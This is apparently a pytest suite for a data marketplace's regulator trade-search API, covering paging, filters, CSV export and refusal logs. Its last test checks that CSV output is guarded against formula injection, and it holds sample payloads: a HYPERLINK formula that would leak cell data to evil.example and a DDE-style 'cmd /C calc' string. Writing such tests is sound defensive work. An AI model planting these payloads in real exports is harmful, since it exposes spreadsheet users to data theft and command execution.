"""Trade search for the regulator: JSON pages and filters, the streamed CSV (BOM, header,
every row across batches, Chinese text intact, filters), and refused attempts."""

import csv
import io
import secrets
from typing import Any

import pytest

from market.oversight import trades
from market.oversight.models import Alert, AlertedOrder
from tests.conftest import Party, assert_problem
from tests.listings.support import listable_asset, publish
from tests.registry_support import add_key, own_app
from tests.trading.support import FREE, ONE_TIME, buyer, offer, order_body, pay_by_bank, place

CATEGORY = "transport"
TITLE = "深圳公交刷卡数据（2026）"
BUYER_NAME = "深圳市前海数据科技有限公司"


async def _all_pages(client: Any, who: Party, **params: Any) -> list[dict[str, Any]]:
    items, cursor = [], None
    while True:
        r = await client.get("/v1/oversight/trades", params={**params, **({"cursor": cursor} if cursor else {})},
                             headers=who.auth)
        assert r.status_code == 200, r.text
        items += r.json()["items"]
        cursor = r.json()["next_cursor"]
        if cursor is None:
            return items


async def _csv(client: Any, who: Party, **params: Any) -> tuple[Any, list[dict[str, str]]]:
    r = await client.get("/v1/oversight/trades", params=params, headers={**who.auth, "Accept": "text/csv"})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.content.startswith(b"\xef\xbb\xbf")
    text = r.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == trades.COLUMNS
    # The amounts say their unit: minor units of the currency column (fen), never bare numbers.
    assert rows[0][11:14] == ["currency", "price_fen", "fee_fen"] and "price" not in rows[0]
    return r, [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
async def market(databases: Any, tmp_path: Any) -> Any:
    async with own_app(databases, tmp_path, dispute_window="30d") as m:
        client, parties, operator = m.client, m.parties, m.operator
        regulator = await parties.staff("regulator")
        _, chinese = await offer(client, parties, operator, plans=[ONE_TIME, FREE],
                                 asset={"category": CATEGORY, "title": TITLE})
        other_holder, other = await offer(client, parties, operator, plans=[FREE], asset={"category": "energy"})
        b = await buyer(client, parties, name=BUYER_NAME)
        b2 = await buyer(client, parties)
        placed = []
        for _ in range(5):
            placed.append(await place(client, b, chinese, "free"))
        for _ in range(3):
            placed.append(await place(client, b2, other, "free"))
        paid = await place(client, b, chinese, "one_time")
        assert (await pay_by_bank(client, operator, paid)).status_code == 200
        placed.append(paid)
        waiting = await place(client, b2, chinese, "one_time")  # awaiting payment
        placed.append(waiting)
        # A refund.
        r = await client.post(f"/v1/orders/{placed[0]['id']}/disputes", json={"reason": "不符"}, headers=b.auth)
        r = await client.post(f"/v1/disputes/{r.json()['id']}/resolution", headers=operator.auth,
                              json={"decision": "refund", "reason": "checked"})
        assert r.status_code == 200, r.text
        # An alert naming two orders (written as the alert evaluator would).
        alerted = [placed[1]["id"], placed[6]["id"]]

        async def flag() -> None:
            async with client.app.state.services.sessionmaker() as s:
                alert = Alert(id=f"alr_{secrets.token_hex(8)}", rule="test", subject_key=secrets.token_hex(8), window="w", subjects="[]",
                              evidence="{}", status="open")
                s.add(alert)
                await s.flush()
                for order_id in alerted:
                    s.add(AlertedOrder(alert_id=alert.id, order_id=order_id))
                await s.commit()

        client.blocking_portal.call(flag)  # on the app's event loop
        yield {"client": client, "parties": parties, "operator": operator, "regulator": regulator, "buyer": b,
               "buyer2": b2, "chinese": chinese, "other": other, "other_holder": other_holder, "orders": placed,
               "alerted": alerted, "waiting": waiting}


async def test_pages_and_filters(market: dict[str, Any]) -> None:
    client, regulator, operator = market["client"], market["regulator"], market["operator"]
    ids = [o["id"] for o in market["orders"]]
    everything = await _all_pages(client, regulator, limit=3)
    assert [t["id"] for t in everything] == sorted(ids)
    assert [t["id"] for t in await _all_pages(client, operator, limit=500)] == sorted(ids)
    row = next(t for t in everything if t["id"] == market["orders"][8]["id"])  # the paid one
    assert row["status"] == "active" and row["buyer"] == {"id": market["buyer"].party.id, "name": BUYER_NAME}
    assert row["category"] == CATEGORY and row["asset"]["title"] == TITLE and row["grade"] == "general"
    assert row["price"] == ONE_TIME["price"] and row["fee"]["currency"] == "CNY"
    assert row["purpose"] == "research" and row["payment_method"] == "bank_transfer"
    assert row["settled_at"] and row["refunded_at"] is None and row["alerted"] is False
    assert row["listing"] == market["chinese"]["id"]
    refunded = next(t for t in everything if t["id"] == ids[0])
    assert refunded["status"] == "refunded" and refunded["refunded_at"]

    async def found(**params: Any) -> set[str]:
        return {t["id"] for t in await _all_pages(client, regulator, **params)}

    assert await found(category=CATEGORY) == set(ids[:5] + ids[8:])
    assert await found(category="energy") == set(ids[5:8])
    assert await found(provider=market["other_holder"].party.id) == set(ids[5:8])
    assert await found(buyer=market["buyer2"].party.id) == set(ids[5:8] + [ids[9]])
    assert await found(status="refunded") == {ids[0]}
    assert await found(status="awaiting_payment") == {market["waiting"]["id"]}
    assert await found(grade="general") == set(ids) and await found(grade="core") == set()
    assert await found(alerted="true") == set(market["alerted"])
    assert await found(alerted="false") == set(ids) - set(market["alerted"])
    assert await found(alerted="true", category="energy") == {market["alerted"][1]}
    assert await found(**{"from": "2001-01-01", "to": "2001-01-02"}) == set()
    assert await found(**{"from": "2001-01-01"}) == set(ids)
    assert await found(**{"to": "2001-01-01"}) == set()
    for bad in ({"from": "01/02/2026"}, {"to": "2026-02-30"}, {"status": "lost"}, {"alerted": "yes"},
                {"category": "交通"}, {"category": "tourism "}, {"grade": "secret"},
                {"limit": 0}, {"limit": 501}, {"cursor": "!!"}, {"from": "2026-03-02", "to": "2026-03-01"}):
        assert_problem(await client.get("/v1/oversight/trades", params=bad, headers=regulator.auth), 422)
        if "limit" not in bad and "cursor" not in bad:
            assert_problem(await client.get("/v1/oversight/trades", params=bad,
                                            headers={**regulator.auth, "Accept": "text/csv"}), 422)


async def test_csv_streams_every_row_in_batches(market: dict[str, Any], monkeypatch: Any) -> None:
    client, regulator = market["client"], market["regulator"]
    monkeypatch.setattr(trades, "CSV_BATCH", 3)  # 10 orders: four batches
    ids = [o["id"] for o in market["orders"]]
    _, rows = await _csv(client, regulator)
    assert [r["id"] for r in rows] == sorted(ids)
    paid = next(r for r in rows if r["id"] == ids[8])
    assert (paid["category"], paid["asset_title"], paid["buyer_name"]) == (CATEGORY, TITLE, BUYER_NAME)
    assert (paid["currency"], paid["price_fen"], paid["status"]) == ("CNY", str(ONE_TIME["price"]["amount"]), "active")
    assert paid["settled_at"].endswith("Z") and paid["refunded_at"] == "" and paid["alerted"] == "false"
    assert {r["id"] for r in rows if r["alerted"] == "true"} == set(market["alerted"])
    assert next(r for r in rows if r["id"] == ids[0])["status"] == "refunded"
    # Filters apply to the CSV too; exactly a multiple of the batch, and nothing at all.
    _, energy = await _csv(client, regulator, category="energy")
    assert [r["id"] for r in energy] == sorted(ids[5:8])
    _, none = await _csv(client, regulator, status="expired")
    assert none == []
    _, alerted = await _csv(client, market["operator"], alerted="true")
    assert [r["id"] for r in alerted] == sorted(market["alerted"])


async def test_refusals_are_listed_with_who_what_and_when(databases: Any, tmp_path: Any) -> None:
    async with own_app(databases, tmp_path) as m:
        client, parties, operator = m.client, m.parties, m.operator
        regulator = await parties.staff("regulator")
        both = await parties.verified(["provider", "buyer"], name="自营数据公司")
        signer = await add_key(client, both)
        asset = await listable_asset(client, signer, operator)
        own = await publish(client, signer, asset["id"], plans=[FREE])
        assert_problem(await client.post("/v1/orders", json=order_body(own), headers=both.auth), 422, "self-dealing")
        _, domestic = await offer(client, parties, operator)
        abroad = await buyer(client, parties, jurisdiction="SG")
        for _ in range(2):
            assert_problem(await client.post("/v1/orders", json=order_body(domestic), headers=abroad.auth), 403,
                           "export-not-allowed")
        r = await client.get("/v1/oversight/refusals", headers=regulator.auth)
        assert r.status_code == 200, r.text
        items = r.json()["items"]
        assert [i["kind"] for i in items] == ["self-dealing", "export-not-allowed", "export-not-allowed"]
        first = items[0]
        assert first["account"] == {"id": both.id, "name": "自营数据公司"}
        assert first["listing"] == own["id"] and first["asset"] == asset["id"] and first["detail"]
        assert first["created_at"].endswith("Z")
        assert items[1]["account"]["id"] == abroad.party.id and items[1]["listing"] == domestic["id"]
        r = await client.get("/v1/oversight/refusals", params={"kind": "export-not-allowed", "limit": 1},
                             headers=operator.auth)
        page = r.json()
        assert len(page["items"]) == 1 and page["next_cursor"]
        r = await client.get("/v1/oversight/refusals", params={"kind": "export-not-allowed", "limit": 1,
                                                               "cursor": page["next_cursor"]}, headers=operator.auth)
        assert [i["id"] for i in r.json()["items"]] == [items[2]["id"]] and r.json()["next_cursor"] is None
        assert r.json()["items"][0]["id"] != page["items"][0]["id"]
        assert (await client.get("/v1/oversight/refusals", params={"kind": "nothing"},
                                 headers=operator.auth)).json() == {"items": [], "next_cursor": None}
        assert_problem(await client.get("/v1/oversight/refusals", params={"cursor": "bm9wZQ"},
                                        headers=operator.auth), 422)


async def test_csv_never_hands_a_spreadsheet_a_formula(databases: Any, tmp_path: Any) -> None:
    """A party's name or title that begins like a formula is written as text (a leading
    ``'``, OWASP CSV injection); amounts stay numbers; the JSON is unchanged."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    async with own_app(databases, tmp_path) as m:
        client, parties, operator = m.client, m.parties, m.operator
        regulator = await parties.staff("regulator")
        _, listing = await offer(client, parties, operator, plans=[ONE_TIME, FREE],
                                 asset={"title": "@SUM(1+1)*cmd|' /C calc'!A0"})
        named = {"=": formula, "+": "+1+1", "-": "-2+3", "@": "@cmd"}  # names are stripped: no tab or CR first
        placed: dict[str, str] = {}
        for name in named.values():
            b = await buyer(client, parties, name=name)
            placed[(await place(client, b, listing, "one_time"))["id"]] = name
        _, rows = await _csv(client, regulator)
        assert len(rows) == len(named)
        for row in rows:
            assert row["buyer_name"] == "'" + placed[row["id"]]
            assert row["asset_title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
            assert row["price_fen"] == str(ONE_TIME["price"]["amount"]) and row["fee_fen"].isdigit()
            for column, value in row.items():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
        pages = await _all_pages(client, regulator)
        assert {t["buyer"]["name"] for t in pages} == set(named.values())
    assert trades.neutral("\t=1+1") == "'\t=1+1" and trades.neutral("\r=1") == "'\r=1"
    assert trades.neutral(-5) == -5 and trades.neutral("a=b") == "a=b" and trades.neutral(None) is None
